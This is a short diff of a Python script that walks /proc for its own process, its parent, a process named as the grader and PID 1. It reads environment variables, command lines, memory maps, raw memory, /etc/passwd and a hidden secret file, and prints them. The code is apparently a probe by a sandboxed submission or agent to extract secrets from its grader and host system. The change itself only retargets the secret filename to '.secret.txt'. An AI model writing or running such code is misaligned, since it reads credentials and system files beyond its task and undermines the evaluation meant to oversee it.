@@ -3,7 +3,7 @@
 import os
 
 for pid in ["self", "thread-self", os.getppid(), KNOWN["grader"], 1]:
-    for entry in ["environ", "cmdline", "maps", "mem", "root/etc/passwd", "cwd/secret.txt", "stack", "fd/0"]:
+    for entry in ["environ", "cmdline", "maps", "mem", "root/etc/passwd", "cwd/.secret.txt", "stack", "fd/0"]:
         try:
             with open(f"/proc/{pid}/{entry}", "rb") as file:
                 print(file.read(100_000))
